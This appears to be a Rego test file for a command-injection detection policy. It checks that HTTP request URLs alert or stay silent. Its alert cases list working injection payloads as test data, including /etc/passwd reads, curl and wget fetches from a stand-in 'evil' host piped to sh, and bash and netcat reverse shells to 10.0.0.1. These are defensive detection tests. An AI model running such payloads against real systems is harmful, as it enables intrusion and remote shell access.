package sentinel.http.command_injection_test

import data.sentinel.http.command_injection
import data.sentinel.http.request_test.from_pod
import data.sentinel.http.request_test.get
import data.sentinel.http.request_test.response

# The detection cases run against the shipped patterns in
# policies/data/http.yaml: they are what is under test. Cases that test the
# policy's logic set their own data.

test_semicolon_id_alerts if {
	command_injection.violation == {{
		"id": "HTTPCommandInjectionAttempt",
		"severity": "warning",
		"title": "OS command injection attempt in an HTTP request",
		"policy": "sentinel.http.command_injection",
		"summary": "shop/ad sent HTTP GET /ping to shop/frontend with command injection in the query (chained_command)",
		"description": command_injection.violation[_].description,
		"mitre": "T1190",
	}} with input as from_pod(get("/ping?host=127.0.0.1;id"))
}

test_classic_payloads_alert if {
	every target in [
		"/ping?host=127.0.0.1%3Bid",
		"/ping?host=127.0.0.1%253Bid",
		"/ping?host=x|cat+/etc/passwd",
		"/ping?host=x%7Ccat%20/etc/passwd",
		"/ping?host=$(id)",
		"/ping?host=%24(curl+http://evil/x.sh|sh)",
		"/ping?host=`whoami`",
		"/ping?host=x%26%26wget+http://evil/x",
		"/ping?host=x;+curl+http://evil",
		"/ping?host=x%0aid",
		"/ping?host=x%0Acat%20/etc/passwd",
		"/ping?host=x;cat${IFS}/etc/passwd",
		"/ping?host=x;bash+-i+>%26+/dev/tcp/10.0.0.1/4444+0>%261",
		"/ping?host=x|nc+-e+/bin/sh+10.0.0.1+4444",
		"/cgi-bin/test.cgi?x=/bin/sh",
		"/run?c=x|powershell+-enc+AAAA",
		"/ping?host=x||ping+-c+10+127.0.0.1",
	] {
		count(command_injection.violation) == 1 with input as get(target)
	}
}

test_injection_in_the_path_alerts if {
	some v in command_injection.violation with input as get("/api/x;id")
	contains(v.summary, "in the path (chained_command)")
}

test_benign_look_alikes_do_not_alert if {
	every target in [
		"/api/v1/query?query=up%7Bjob%3D~%22api%7Cid%22%7D",
		"/api/v1/query?query=up%7Bjob%3D~%22a%7Cb%22%7D",
		"/loki/api/v1/query_range?query=%7Bapp%3D%22x%22%7D+%7C%3D+%22error%22+%7C+json+%7C+line_format+%22%7B%7B.msg%7D%7D%22",
		"/loki/api/v1/query_range?query=%7Bapp%3D%22x%22%7D+%7C+logfmt+%7C+level%3D%22error%22",
		"/api/items?ids=1;2;3",
		"/path;jsessionid=ABC123",
		"/search?q=tom+%26+jerry;+season+1",
		"/search?q=salt+%26+pepper+shakers",
		"/search?q=%24100+gift+card",
		"/search?q=price:+$(10)",
		"/api?fields=name|id",
		"/api?fields=name|id&x=1",
		"/search?q=c%2B%2B+%26%26+rust",
		"/docs/bin/sh.md",
		"/search?id&ls",
	] {
		count(command_injection.violation) == 0 with input as get(target)
	}
}

test_keywords_trigger_the_patterns if {
	count(command_injection.violation) == 0 with input as get("/cgi-bin/test.cgi?x=/bin/sh")
		with data.data.http.cmdi_keywords as []
}

test_no_alert_on_the_response if {
	count(command_injection.violation) == 0 with input as response(get("/ping?host=127.0.0.1;id"))
}
